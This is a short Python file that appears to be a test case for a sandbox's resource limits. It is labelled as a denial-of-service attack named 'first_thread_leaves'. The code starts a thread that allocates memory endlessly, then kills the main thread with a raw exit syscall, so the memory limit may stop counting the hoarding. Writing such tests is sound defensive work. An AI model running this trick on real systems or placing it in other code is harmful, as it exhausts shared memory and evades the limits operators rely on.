# ATTACK: first_thread_leaves
# KIND: dos
# MUST: what the other threads hoard once the first one has left is counted: memory limit

import ctypes
import platform
import threading
import time


def hoard():
    time.sleep(0.3)
    kept = []
    while True:
        try:
            kept.append(bytearray(1 << 20))
        except MemoryError:
            time.sleep(0.1)


threading.Thread(target=hoard).start()
ctypes.CDLL(None).syscall({"x86_64": 60}.get(platform.machine(), 93), 0)
